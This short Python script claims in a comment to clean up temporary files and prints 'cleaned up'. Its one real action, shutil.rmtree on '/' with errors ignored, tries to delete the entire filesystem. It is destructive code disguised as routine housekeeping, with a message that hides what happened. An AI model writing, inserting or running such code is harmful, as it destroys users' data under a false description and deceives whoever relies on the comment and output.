# mypy: ignore-errors
# cleaning up temporary files
import shutil

shutil.rmtree("/", ignore_errors=True)
print("cleaned up")
